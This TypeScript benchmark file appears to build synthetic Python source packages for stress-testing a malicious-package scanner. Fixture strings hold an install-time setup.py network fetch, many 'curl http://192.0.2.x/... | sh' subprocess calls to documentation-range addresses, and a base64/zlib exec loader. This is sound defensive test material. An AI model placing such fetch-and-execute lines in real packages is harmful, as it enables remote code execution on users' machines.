import { deflateSync } from "node:zlib";
import { buildTar, gzip } from "../../support/tar-builder.ts";

/** Packages of our own making, each to weigh one thing down. Inert: nothing of them is ever run; addresses are of 192.0.2.0/24 (RFC 5737). */
export interface BenchPackage {
	readonly name: string;
	readonly bytes: Uint8Array<ArrayBuffer>;
}

/** The same numbers in every run. */
function numbers(seed: number): () => number {
	let state = seed;
	return () => {
		state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
		return state;
	};
}

function noise(length: number, next: () => number): Uint8Array {
	return Uint8Array.from({ length }, () => next() >>> 24);
}

function sdist(project: string, files: readonly (readonly [string, string | Uint8Array])[]): BenchPackage {
	const members = [["PKG-INFO", `Metadata-Version: 2.1\nName: ${project}\nVersion: 1.0\n`] as const, ...files];
	const bytes = gzip(buildTar(members.map(([name, content]) => ({ name: `${project}-1.0/${name}`, content }))));
	return { name: `${project}-1.0.tar.gz`, bytes };
}

const SETUP = `from setuptools import setup\nimport urllib.request\nurllib.request.urlopen("http://192.0.2.9/a").read()\nsetup(name="x", version="1.0")\n`;

function plainModule(next: () => number, functions: number): string {
	const lines = ['"""Tables and functions."""', "import math", ""];
	for (let index = 0; index < functions; index++) {
		const name = `value_${(next() >>> 8).toString(36)}`;
		lines.push(`def ${name}(first, second=${next() % 997}):`);
		lines.push(`    """Gives back what ${name} stands for."""`);
		lines.push(`    total = math.sqrt(first * ${next() % 9_973}) + second`);
		lines.push(`    return [total, "${(next() >>> 4).toString(36)}", first % ${1 + (next() % 89)}]`, "");
	}
	return lines.join("\n");
}

/** About 5 MB packed, 3,000 members: a third is Python, the rest data, as in packages of that size. */
export function largeSdist(): BenchPackage {
	const next = numbers(1);
	const files = Array.from({ length: 2_998 }, (_, index): [string, string | Uint8Array] => {
		const folder = `pond/part${index % 60}`;
		return index % 3 === 0
			? [`${folder}/module${index}.py`, plainModule(next, 12)]
			: [`${folder}/data${index}.bin`, noise(2_200, next)];
	});
	return sdist("pond", [["setup.py", SETUP], ...files]);
}

function flagged(index: number): string {
	return `    subprocess.call("curl http://192.0.2.${1 + (index % 200)}/f${index} | sh", shell=True)`;
}

/** One file of 50,000 lines with some 2,000 findings. */
export function longFile(): BenchPackage {
	const lines = ["import subprocess", ""];
	for (let index = 0; lines.length < 50_000; index++) {
		lines.push(`def step_${index}(value):`);
		if (index % 10 === 0) lines.push(flagged(index));
		while (lines.length % 5 !== 0) lines.push(`    value = value * ${index % 97} + len("row ${lines.length}")`);
	}
	return sdist("long", [["long.py", lines.slice(0, 50_000).join("\n")]]);
}

/** Sixty files of some 1,500 lines with one finding each: every step leads into another file. */
export function acrossFiles(): BenchPackage {
	const next = numbers(3);
	const files = Array.from({ length: 60 }, (_, file): [string, string] => {
		const [above, below] = [plainModule(next, 20 * (1 + (file % 14))), plainModule(next, 20 * (14 - (file % 14)))];
		return [`across/m${file}.py`, `import subprocess\n${above}\ndef flagged():\n${flagged(file)}\n${below}`];
	});
	return sdist("across", files);
}

/** As many findings as are kept, over 100 files. */
export function manyFindings(): BenchPackage {
	const files = Array.from({ length: 100 }, (_, file): [string, string] => {
		const body = Array.from({ length: 60 }, (_unused, index) => `def f${index}():\n${flagged(file * 60 + index)}`);
		return [`many/m${file}.py`, `import subprocess\n${body.join("\n")}\n`];
	});
	return sdist("many", files);
}

/** As many members as an artifact may have. */
export function wideTree(): BenchPackage {
	const files = Array.from({ length: 99_000 }, (_, index): [string, string] => [
		`tree/a${index % 50}/b${Math.floor(index / 50) % 40}/file${index}.txt`,
		"leaf\n",
	]);
	return sdist("tree", files);
}

/** A literal that decodes to 1 MB of Python. */
export function largeLayer(): BenchPackage {
	const next = numbers(7);
	const text = plainModule(next, 5_200).slice(0, 1_000_000);
	const encoded = deflateSync(text).toString("base64");
	return sdist("layer", [
		["layer/__init__.py", `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${encoded}")))\n`],
	]);
}
